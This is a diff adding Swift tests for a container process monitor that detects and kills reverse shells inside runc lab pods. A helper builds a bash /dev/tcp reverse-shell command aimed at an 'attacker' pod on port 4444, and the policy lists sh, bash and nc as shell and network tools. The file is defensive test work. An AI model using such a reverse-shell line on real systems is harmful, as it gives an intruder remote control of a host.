@@ -1,0 +1,134 @@
+import Foundation
+import Glibc
+import PodwallCore
+import PodwallKernel
+import PodwallLab
+import PodwallTestSupport
+import Testing
+
+/// The process programs on real execs in real runc containers.
+@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
+struct ProcessMonitorTests {
+    /// A lab with one container in pod 1 and a TCP listener in pod 2 (the attacker).
+    final class ContainerLab {
+        let lab: Lab
+        let monitor: ProcessMonitor
+        let container: Container
+        let mount: String
+        let listener: Int32
+        static let listenerPort: UInt16 = 4444
+
+        init(kills: ProcessPolicyTable.Kills) throws {
+            lab = try Lab(pods: 2)
+            mount = try #require(CgroupHooks.cgroup2Mount())
+            monitor = try ProcessMonitor(pinRoot: nil)
+            container = try lab.runContainer(in: lab.pods[0], name: "app", command: ["sleep", "300"])
+            try monitor.policy.watch(podsCgroup: mount + Container.podsCgroup(of: lab), mount: mount, kills: kills)
+            try monitor.policy.setNames(["sh": .shell, "bash": .shell, "nc": .networkTool])
+            let attacker = lab.pods[1]
+            listener = try NetworkNamespace.run(attacker.namespace) {
+                try LabSocket.tcpListener(address: attacker.ipv4, port: Self.listenerPort)
+            }
+        }
+
+        deinit {
+            close(listener)
+            lab.teardown()
+        }
+
+        var attacker: Lab.Pod { lab.pods[1] }
+
+        var containerCgroupID: UInt64 {
+            var status = stat()
+            return stat(mount + container.cgroup, &status) == 0 ? UInt64(status.st_ino) : 0
+        }
+
+        /// `bash -c "<command>"` started by a shell whose stdio is a TCP connection to the attacker.
+        func reverseShell(running command: String) throws -> Shell.Result {
+            try lab.exec(
+                in: container,
+                ["bash", "-c", "bash -c '\(command)' >& /dev/tcp/\(attacker.ipv4)/\(Self.listenerPort) 0>&1"], check: false)
+        }
+
+        func execs(named comm: String) throws -> [ExecRecord] {
+            try monitor.drain().compactMap { event in
+                if case .exec(let record) = event, record.comm == comm { record } else { nil }
+            }
+        }
+    }
+
+    @Test func execsInPodsAreReportedWithContainerAndStdioAndHostExecsAreNot() throws {
+        let env = try ContainerLab(kills: [])
+        _ = try env.monitor.drain()
+        try env.lab.exec(in: env.container, ["sh", "-c", "echo hello > /shared/hello; exit 3"], check: false)
+        _ = try Shell.run(["/bin/sh", "-c", "true"])
+        let events = try env.monitor.drain()
+        let execs = events.compactMap { if case .exec(let record) = $0 { record } else { nil } }
+
+        let shell = try #require(execs.first { $0.comm == "sh" }, "\(events)")
+        #expect(shell.arguments == ["sh", "-c", "echo hello > /shared/hello; exit 3"])
+        #expect(shell.filename == "/usr/bin/sh" || shell.filename.hasSuffix("/sh"))
+        #expect(shell.process.cgroupID == env.containerCgroupID, "the container's own cgroup")
+        #expect(shell.process.namespacePid != shell.process.pid, "numbered by the container's pid namespace too")
+        #expect(shell.process.namespacePid < 100)
+        #expect(shell.execClass == .shell)
+        #expect(!shell.killedAtExec)
+        #expect(shell.stdioSockets.isEmpty)
+        #expect(
+            shell.stdio.allSatisfy { if case .pipe = $0 { true } else if case .characterDevice = $0 { true } else { false } },
+            "\(shell.stdio)")
+        #expect(execs.allSatisfy { $0.process.cgroupID == env.containerCgroupID }, "host execs are not reported")
+
+        let exit = events.first {
+            if case .exit(let process, _, _, let comm) = $0 { process.pid == shell.process.pid && comm == "sh" } else { false }
+        }
+        guard case .exit(_, _, let code, _)? = exit else {
+            Issue.record("no exit event for the shell: \(events)")
+            return
+        }
+        #expect(code == 3 << 8, "as wait(2) reports exit(3)")
+        #expect(env.monitor.counters.execs >= 1)
+        #expect(env.monitor.counters.ringBufferDrops == 0)
+    }
+
+    @Test func aShellWithASocketOnItsStdioIsKilledBeforeItsFirstCommand() throws {
+        let env = try ContainerLab(kills: .reverseShell)
+        _ = try env.monitor.drain()
+        let result = try env.reverseShell(running: "touch /shared/ran")
+
+        let marker = env.container.sharedDirectory + "/ran"
+        #expect(!FileManager.default.fileExists(atPath: marker), "the shell ran its first command")
+        #expect(result.status != 0)
+        let shells = try env.execs(named: "bash")
+        let killed = try #require(shells.first { $0.killedAtExec }, "\(shells)")
+        let socket = try #require(killed.stdioSockets.first)
+        #expect(socket.proto == .tcp)
+        #expect(socket.remote.description == env.attacker.ipv4)
+        #expect(socket.remotePort == ContainerLab.listenerPort)
+        #expect(killed.stdioSockets.count == 3, "fd 0, 1 and 2 are all the connection")
+        #expect(env.monitor.counters.kills >= 1)
+    }
+
+    @Test func withoutTheKillSwitchTheReverseShellRunsAndIsReported() throws {
+        let env = try ContainerLab(kills: [])
+        _ = try env.monitor.drain()
+        _ = try env.reverseShell(running: "touch /shared/ran")
+
+        #expect(FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/ran"))
+        let shells = try env.execs(named: "bash")
+        #expect(shells.contains { !$0.killedAtExec && $0.stdioSockets.count == 3 }, "\(shells)")
+    }
+
+    @Test func aDeniedNameIsKilledAtExecAndOthersRun() throws {
+        let env = try ContainerLab(kills: .denied)
+        try env.monitor.policy.setNames(["touch": .denied])
+        _ = try env.monitor.drain()
+        let denied = try env.lab.exec(in: env.container, ["touch", "/shared/denied"], check: false)
+        try env.lab.exec(in: env.container, ["sh", "-c", "echo ok > /shared/allowed"])
+
+        #expect(denied.status != 0)
+        #expect(!FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/denied"))
+        #expect(FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/allowed"))
+        #expect(try env.execs(named: "touch").first?.killedAtExec == true)
+    }
+}
